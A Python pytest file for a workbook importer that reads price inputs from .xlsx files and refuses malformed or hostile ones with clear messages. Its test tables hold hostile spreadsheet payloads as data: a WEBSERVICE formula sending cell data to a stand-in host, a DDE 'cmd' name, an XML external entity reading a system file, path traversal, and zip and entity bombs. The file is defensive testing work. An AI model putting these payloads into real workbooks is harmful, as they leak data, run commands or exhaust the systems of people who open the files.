"""What comes back in a workbook is read by its keys, and whatever cannot be a change is refused in words."""

import re
from collections.abc import Callable, Mapping
from decimal import Decimal
from functools import cache

import pytest

from proposal.errors import InputError
from proposal.imports.workbook_inputs import ReadInputs, read_inputs, told_missing
from tests.exports.workbook.test_book import cells
from tests.imports import spoilt_books as spoil
from tests.imports.conftest import Sent, sent


def whole(book: bytes, *confirmed: str) -> ReadInputs:
    return read_inputs(book, "book.xlsx", sent().document.price_inputs, sent().document.cover, set(confirmed))


def read(book: bytes) -> Mapping[str, Decimal]:
    found = whole(book)
    if found.problems:
        raise InputError(found.problems)
    return {one.row.key: one.value for one in found.changed}


def refusals(book: bytes) -> list[str]:
    with pytest.raises(InputError) as refused:
        read(book)
    return [str(problem) for problem in refused.value.problems]


def cell_of(key: str, column: str = "C") -> str:
    """Return the name of a cell beside a key, where every workbook of the project has it."""
    return f"{column}{rows_of_keys()[key]}"


@cache
def rows_of_keys() -> Mapping[str, str]:
    inputs = cells(sent().book)["Inputs"]
    return {text: name[1:] for name, (text, _) in inputs.items() if name[0] == "G"}


RATE = "labour.rates.installer.cost"
MARGIN = "price.rules.rest.margin"


def test_nothing_is_changed_in_a_workbook_as_it_was_sent(out: Sent) -> None:
    assert read(out.book) == {}


def test_every_input_can_be_changed(out: Sent) -> None:
    book, wanted = out.book, {}
    for row in out.document.price_inputs:
        value = row.value / 2 + Decimal("0.001")
        wanted[row.key] = value
    parts = spoil.parts_of(book)
    text = parts[spoil.SHEET].decode()
    for key, value in wanted.items():
        cell = cell_of(key)
        before = text.index("<v>", text.index(f'<c r="{cell}"'))
        text = text[: before + 3] + f"{value:f}" + text[text.index("</v>", before) :]
    assert read(spoil.book_of({**parts, spoil.SHEET: text.encode()})) == wanted


def test_what_the_project_changed_alone_is_told_and_stays(out: Sent) -> None:
    rows = [
        row.model_copy(update={"value": row.value + 1}) if row.key == RATE else row
        for row in out.document.price_inputs
    ]
    found = read_inputs(out.book, "book.xlsx", rows, out.document.cover)
    assert (found.changed, found.moved) == ((), (RATE,))


def test_what_both_changed_is_refused_unless_to_the_same(out: Sent) -> None:
    row = next(row for row in out.document.price_inputs if row.key == RATE)
    book = spoil.typed(out.book, cell_of(RATE), "99.5")
    for now, told in ((Decimal("99.5"), 0), (Decimal(98), 1)):
        rows = [
            one.model_copy(update={"value": now}) if one is row else one for one in out.document.price_inputs
        ]
        found = read_inputs(book, "book.xlsx", rows, out.document.cover)
        assert (len(found.problems), found.changed) == (told, ())
        for problem in found.problems:
            assert problem.message == (
                f"{RATE}: wanted an input changed on one side alone; found 99.5 here, 98 in the project, "
                f"and {float(row.value):g} in both before"
            )


Spoil = Callable[[bytes], bytes]
NOT_VALUES: Mapping[str, tuple[Spoil, str]] = {
    "a formula": (
        lambda book: spoil.with_cell(book, cell_of(RATE), "<f>A1*2</f><v>99</v>"),
        "wanted a number typed in; found a formula, =A1*2",
    ),
    "a formula that calls out": (
        lambda book: spoil.with_cell(
            book, cell_of(RATE), '<f>WEBSERVICE("http://example.invalid/"&amp;A1)</f><v>99</v>'
        ),
        'found a formula, =WEBSERVICE("http://example.invalid/"&A1)',
    ),
    "a text": (lambda book: spoil.texted(book, cell_of(RATE), "forty"), "found forty"),
    "a number as text": (lambda book: spoil.texted(book, cell_of(RATE), "43.75"), "found 43.75"),
    "nothing": (lambda book: spoil.with_cell(book, cell_of(RATE), ""), "found an empty cell"),
    "an error": (
        lambda book: spoil.with_cell(book, cell_of(RATE), "<v>#DIV/0!</v>", 't="e"'),
        "found an error, #DIV/0!",
    ),
    "yes or no": (
        lambda book: spoil.with_cell(book, cell_of(RATE), "<v>1</v>", 't="b"'),
        "found yes or no, yes",
    ),
    "an absurd number": (lambda book: spoil.typed(book, cell_of(RATE), "1e300"), "wanted a number below"),
    "less than nothing": (lambda book: spoil.typed(book, cell_of(RATE), "-5"), "wanted 0 or more; found -5"),
    "a margin of all": (
        lambda book: spoil.typed(book, cell_of(MARGIN), "26"),
        "wanted less than 1, which is 100 %; found 26",
    ),
    "no number": (lambda book: spoil.typed(book, cell_of(RATE), "1e999"), "found an error, no number"),
    "another unit": (
        lambda book: spoil.texted(book, cell_of(RATE, "D"), "JPY"),
        "wanted the unit EUR; found JPY",
    ),
    "an unknown key": (
        lambda book: spoil.texted(
            spoil.typed(book, cell_of(RATE), "99"), cell_of(RATE, "G"), "labour.rates.instaler.cost"
        ),
        "found labour.rates.instaler.cost (did you mean labour.rates.installer.cost?)",
    ),
    "a key twice": (
        lambda book: spoil.texted(book, cell_of(MARGIN, "G"), RATE),
        f"wanted each input once; found {RATE} again, first in G",
    ),
    "a key that is a formula": (
        lambda book: spoil.with_cell(book, cell_of(RATE, "G"), "<f>F2</f><v>x</v>"),
        "wanted the key of an input; found a formula, =F2",
    ),
    "a value before that is none": (
        lambda book: spoil.texted(book, cell_of(RATE, "I"), "?"),
        "wanted its value of this revision; found ?",
    ),
}


@pytest.mark.parametrize("what", NOT_VALUES)
def test_what_is_no_value_of_an_input_is_refused_with_its_cell(what: str, out: Sent) -> None:
    change, said = NOT_VALUES[what]
    (told,) = refusals(change(out.book))
    assert said in told
    assert told.startswith("book.xlsx: Inputs!")


def labelled(label: str, text: str) -> Spoil:
    def change(book: bytes) -> bytes:
        contents = cells(book)["Contents"]
        row = min(int(name[1:]) for name, (found, _) in contents.items() if name[0] == "A" and found == label)
        pattern = f'<c r="B{row}"'
        return spoil.edited(
            book,
            spoil.CONTENTS,
            lambda sheet: (
                sheet[: sheet.index(pattern)]
                + f'<c r="B{row}" t="inlineStr"><is><t>{text}</t></is></c>'
                + sheet[sheet.index("</c>", sheet.index(pattern)) + 4 :]
            ),
        )

    return change


HOSTILE: Mapping[str, tuple[Spoil, str]] = {
    "an empty file": (lambda _: b"", "found an empty file"),
    "a text": (lambda _: b"key;value\n", "found another kind of file"),
    "an old workbook": (lambda _: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "one of an old format"),
    "half a workbook": (lambda book: book[: len(book) // 2], "found a damaged one"),
    "another archive": (lambda _: spoil.book_of({"readme.txt": b"hello"}), "found an archive without one"),
    "no sheet of inputs": (
        lambda book: spoil.edited(book, "xl/workbook.xml", lambda text: text.replace('"Inputs"', '"Input"')),
        "found none named Inputs",
    ),
    "macros": (lambda book: spoil.with_part(book, "xl/vbaProject.bin", b"\xcc"), "found macros"),
    "a book for macros": (
        lambda book: spoil.edited(
            book,
            "[Content_Types].xml",
            lambda text: text.replace(
                "openxmlformats-officedocument.spreadsheetml.sheet.main", "ms-excel.sheet.macroEnabled.main"
            ),
        ),
        "found one for macros",
    ),
    "a sheet of macros": (
        lambda book: spoil.with_part(book, "xl/macrosheets/sheet1.xml", b"<x/>"),
        "found a sheet of macros",
    ),
    "links to other workbooks": (
        lambda book: spoil.with_part(book, "xl/externalLinks/externalLink1.xml", b"<externalLink/>"),
        "found links to other workbooks",
    ),
    "a sheet that lies elsewhere": (
        lambda book: spoil.edited(
            book,
            "xl/_rels/workbook.xml.rels",
            lambda text: text.replace(
                "</Relationships>",
                '<Relationship Id="rId999" Type="x/worksheet" Target="http://127.0.0.1:9/x.xml" '
                'TargetMode="External"/></Relationships>',
            ),
        ),
        "found a part of it that lies elsewhere",
    ),
    "a name that leads to another file": (
        lambda book: spoil.with_name(book, "'file:///x/[a.xlsx]S'!$A$1"),
        "found one that leads to another file or program",
    ),
    "a name that asks a program": (
        lambda book: spoil.with_name(book, "cmd|'/C calc'!A0"),
        "found one that leads to another file or program",
    ),
    "a connection": (lambda book: spoil.with_part(book, "xl/connections.xml", b"<x/>"), "found connections"),
    "an embedded file": (
        lambda book: spoil.with_part(book, "xl/embeddings/oleObject1.bin", b"MZ"),
        "found embedded files",
    ),
    "a bomb of entities": (spoil.entity_bomb, "found one, which may hold entities"),
    "an entity of a file": (
        lambda book: spoil.with_document_type(
            book, '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/hostname">]>', spoil.STRINGS
        ),
        "found one, which may hold entities",
    ),
    "another encoding": (spoil.in_utf16, "found another encoding"),
    "broken tags": (
        lambda book: spoil.edited(book, spoil.SHEET, lambda text: text.replace("</row>", "</rwo>", 1)),
        "that can be read; found mismatched tag",
    ),
    "a text that is not there": (
        lambda book: spoil.with_cell(book, cell_of(RATE, "G"), "<v>99999999</v>", 't="s"'),
        "that can be read; found",
    ),
    "tags without end": (spoil.deep, "that can be read; found"),
    "a bomb of zeros": (spoil.zip_bomb, "wanted a workbook of at most 200 MB unpacked; found 25"),
    "a bomb that says it is none": (spoil.lying_bomb, "wanted a workbook (.xlsx) that can be"),
    "parts without end": (spoil.many_parts, "wanted a workbook of at most 2000 parts"),
    "a part twice": (spoil.twice, "wanted each part of the workbook once"),
    "a part outside": (lambda book: spoil.with_part(book, "xl/../../x.xml", b"<x/>"), "leads out of it"),
    "a password": (spoil.encrypted, "found an encrypted part"),
    "a million rows": (spoil.many_rows, "wanted at most 20000 rows in a sheet; found more"),
    "a row far down": (spoil.far_row, "wanted at most 20000 rows in a sheet; found more"),
    "no column of keys": (
        lambda book: spoil.texted(book, "G1", "Keys"),
        "wanted columns named Key, Value, Unit, Of this revision, Of; found none named Key",
    ),
    "another project": (labelled("Project", "Another house"), "wanted a workbook of the project"),
    "another revision": (labelled("Revision", "Z"), "found Z"),
}


@pytest.mark.parametrize("what", HOSTILE)
def test_a_workbook_that_nobody_should_send_is_refused_in_words(what: str, out: Sent) -> None:
    spoilt, said = HOSTILE[what]
    told = refusals(spoilt(out.book))
    assert any(said in line for line in told), told
    assert all(line.startswith("book.xlsx: ") and "\n" not in line and len(line) < 400 for line in told)


def test_more_tags_than_any_workbook_has_are_refused(out: Sent) -> None:
    (told,) = refusals(spoil.many_tags(out.book))
    assert "wanted a workbook of at most 4000000 tags; found more" in told


def test_everything_that_is_wrong_is_told_at_once(out: Sent) -> None:
    book = spoil.texted(labelled("Revision", "Z")(out.book), cell_of(RATE), "forty")
    assert len(refusals(spoil.texted(book, cell_of(MARGIN), "a quarter"))) == 3


def test_a_slip_of_the_decimal_mark_is_refused_until_it_is_confirmed(out: Sent) -> None:
    now = next(row.value for row in out.document.price_inputs if row.key == RATE)
    book = spoil.typed(out.book, cell_of(RATE), f"{now * 10:f}")
    (told,) = refusals(book)
    assert "10 times as much; if it is right, call again with" in told
    assert told.endswith(f'--confirm "{RATE}"')
    assert [one.value for one in whole(book, RATE).changed] == [now * 10]


def test_rows_that_were_taken_out_are_told_and_stay_as_they_are(out: Sent) -> None:
    row = cell_of(RATE, "")
    without = spoil.edited(
        out.book, spoil.SHEET, lambda text: re.sub(rf'<row r="{row}".*?</row>', "", text, flags=re.DOTALL)
    )
    found = whole(without)
    assert (found.changed, found.problems, found.missing) == ((), (), (RATE,))
    (told,) = told_missing(found.missing, "book.xlsx")
    assert told == f"1 input is missing from book.xlsx and stays as in the project: {RATE}"
